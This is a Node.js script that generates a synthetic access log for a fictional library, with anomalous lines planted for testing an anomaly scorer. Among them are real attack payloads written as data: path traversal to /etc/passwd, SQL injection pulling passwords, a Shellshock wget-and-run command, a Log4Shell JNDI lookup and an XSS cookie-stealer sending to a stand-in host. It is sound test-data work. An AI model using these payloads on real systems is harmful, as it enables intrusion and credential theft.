// Writes the access log of a fictional library with a few strange lines, like those of scanners, broken clients and
// crashes, to be found with `charnn score`.
//
//     node scripts/make-access-log.mjs --lines 100000 --strange 10 --list strange.txt > access.log
//
// `--list FILE` writes only the strange lines to FILE. The same options give the same log; `--rng-seed WORD` gives
// another. Addresses are from RFC 5737 and host names from RFC 2606, which reserve them for documentation.
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { parseArgs } from 'node:util';
import seedrandom from 'seedrandom';

const { values: options } = parseArgs({
  options: {
    lines: { type: 'string', default: '100000' },
    strange: { type: 'string', default: '10' },
    list: { type: 'string' },
    'rng-seed': { type: 'string', default: 'access log' },
  },
});
const [lineCount, strangeCount] = [Number(options.lines), Number(options.strange)];
if (!Number.isSafeInteger(lineCount) || !(strangeCount >= 0 && strangeCount <= lineCount)) {
  console.error(
    'make-access-log: --lines and --strange must be whole numbers, with --strange at most --lines',
  );
  process.exit(2);
}

const random = seedrandom(options['rng-seed']);
/** Returns a random whole number from `low` to `high`. */
const between = (low, high) => low + Math.floor(random() * (high - low + 1));
const oneOf = (things) => things[between(0, things.length - 1)];
const many = (count, make) => Array.from({ length: count }, make);
const digits = (count, radix = 10) => many(count, () => between(0, radix - 1).toString(radix)).join('');
/** Returns random bytes, escaped as in a server log. */
const escapedBytes = (count) => many(count, () => `\\x${digits(2, 16).toUpperCase()}`).join('');

// The library: its pages and the programs that request them.

const subjects = (
  'birds bridges clocks dyes ferns glass harbours islands kites looms maps moss ' +
  'orchards paper rivers salt sails soil stars tides wool'
).split(' ');
const pages = ['hours', 'contact', 'rooms', 'membership', 'new', 'children', 'events'];
const files = [
  'css/main.css',
  'css/print.css',
  'js/shelf.js',
  'js/search.js',
  'img/logo.svg',
  'img/reading-room.jpg',
];
/** The user agent of Firefox, which contains its version twice. */
const firefox = (version) =>
  `Mozilla/5.0 (X11; Linux x86_64; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`;
const agents = [
  () => firefox(between(115, 131)),
  () =>
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ' +
    `Chrome/${between(118, 129)}.0.0.0 Safari/537.36`,
  () =>
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) ` +
    `Version/${between(16, 18)}.${between(0, 6)} Safari/605.1.15`,
  () =>
    `Mozilla/5.0 (iPhone; CPU iPhone OS ${between(16, 18)}_${between(0, 6)} like Mac OS X) AppleWebKit/605.1.15 ` +
    `(KHTML, like Gecko) Version/${between(16, 18)}.0 Mobile/15E148 Safari/604.1`,
  () => `shelf-app/${between(2, 4)}.${between(0, 9)}.${between(0, 20)} (android ${between(9, 15)})`,
  () => 'catalogue-bot/1.1 (+https://bot.example.org/about)',
  () => `curl/8.${between(0, 9)}.${between(0, 1)}`,
];

/** Requests: method and path, then the range of the usual response size in bytes. */
const requests = [
  () => [`GET /books/${between(1000, 29999)}`, 4200, 9800],
  () => [`GET /books/${between(1000, 29999)}/cover.jpg`, 11000, 64000],
  () => [`GET /subjects/${oneOf(subjects)}?page=${between(1, 14)}`, 6100, 15000],
  () => [`GET /search?q=${oneOf(subjects)}`, 5200, 18000],
  () => [
    `GET /search?q=${oneOf(subjects)}+${oneOf(subjects)}&sort=${oneOf(['year', 'title', 'author'])}`,
    2400,
    18000,
  ],
  () => [`GET /static/${oneOf(files)}`, 1800, 90000],
  () => [`GET /about/${oneOf(pages)}`, 3000, 5200],
  () => [`GET /api/v2/loans?card=${digits(8)}`, 300, 2600],
  () => [`PUT /api/v2/loans/${digits(7)}/renew`, 90, 130],
  () => ['POST /login', 210, 230],
];

const address = () => `${oneOf(['192.0.2', '198.51.100', '203.0.113'])}.${between(1, 254)}`;
const entry = (time, request, status, bytes, agent, referer = '-') =>
  `${address()} - - [${time}] "${request}" ${status} ${bytes} "${referer}" "${agent}"`;

function usualLine(time) {
  const [request, fewest, most] = oneOf(requests)();
  const chance = random();
  const status = chance < 0.9 ? 200 : chance < 0.96 ? 304 : chance < 0.99 ? 302 : 404;
  const bytes = status === 304 ? 0 : status === 200 ? between(fewest, most) : between(150, 600);
  const home = 'https://library.example.org/';
  const referer = oneOf(['-', '-', home, `${home}subjects/${oneOf(subjects)}`]);
  return entry(time, `${request} HTTP/1.1`, status, bytes, oneOf(agents)(), referer);
}

// Strange lines: request, status, bytes and user agent.

const cookieTheft = '%22%3E%3Cscript%3Elocation=%27//x.example.net/?c=%27%2Bdocument.cookie%3C/script%3E';
const unionSelect = "'%20UNION%20SELECT%20NULL,CONCAT(0x7171,login,0x3a,pass),NULL%20FROM%20users--%20";
const strangeRequests = [
  // A scan for a vulnerable server.
  () => ['GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 400, 157, 'zgrab/0.x'],
  // An SQL injection.
  () => [`GET /books/${between(1000, 29999)}${unionSelect} HTTP/1.1`, 500, 612, firefox(128)],
  // A shell command in the user agent.
  () => ['GET / HTTP/1.0', 200, 5120, `() { :;}; /bin/bash -c 'wget -qO- http://${address()}/x|sh'`],
  // TLS on a plain HTTP port.
  () => [`\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03${escapedBytes(22)}`, 400, 157, '-'],
  // A memory dump as a query.
  () => [
    `GET /search?q=${many(60, () => digits(between(3, 11), 36)).join('%7C')} HTTP/1.1`,
    414,
    177,
    firefox(120),
  ],
  // A garbled user agent.
  () => [
    'GET /about/hours HTTP/1.1',
    200,
    4100,
    `Mozi (compatib; MSIE;; MSIE 6.0b; Wind NT;;) ++Opr%%20@@${digits(6, 36)}`,
  ],
  // A JNDI lookup for a vulnerable logger.
  () => [
    `GET /search?q=\${jndi:ldap://x.example.net/${digits(24, 36)}} HTTP/1.1`,
    200,
    5210,
    '${${::-j}ndi:rmi}',
  ],
  // Cross-site scripting, for readers of the log in a browser.
  () => [`GET /search?q=${cookieTheft} HTTP/1.1`, 200, 5333, 'shelf-app/3.1.4 (android 14)'],
  // The first bytes of a remote desktop connection.
  () => ['\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', 400, 157, '-'],
];
/** Returns a line of another program that writes to the same file. */
const crash = () =>
  `java.lang.IllegalStateException: Pool exhausted (size=${between(10, 99)}) ` +
  `at org.example.shelf.LoanStore.renew(LoanStore.java:${between(100, 900)})`;
const strange = [...strangeRequests.map((request) => (time) => entry(time, ...request())), crash];

// The log: strange lines at random places, their kinds in turn.

const places = new Map();
while (places.size < strangeCount) {
  const place = between(0, lineCount - 1);
  if (!places.has(place)) places.set(place, strange[places.size % strange.length]);
}

const twoDigits = (number) => String(number).padStart(2, '0');
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
function stamp(seconds) {
  const t = new Date(seconds * 1000);
  const clock = [t.getUTCHours(), t.getUTCMinutes(), t.getUTCSeconds()].map(twoDigits).join(':');
  return `${twoDigits(t.getUTCDate())}/${months[t.getUTCMonth()]}/${t.getUTCFullYear()}:${clock} +0000`;
}

process.stdout.on('error', (error) => process.exit(error.code === 'EPIPE' ? 0 : 74));
const found = [];
let seconds = Date.UTC(2024, 2, 4, 6, 25) / 1000;
for (let i = 0; i < lineCount; i++) {
  seconds += between(0, 5);
  const line = (places.get(i) ?? usualLine)(stamp(seconds));
  if (places.has(i)) found.push(line);
  if (!process.stdout.write(`${line}\n`)) await once(process.stdout, 'drain');
}
if (options.list !== undefined) writeFileSync(options.list, found.map((line) => `${line}\n`).join(''));
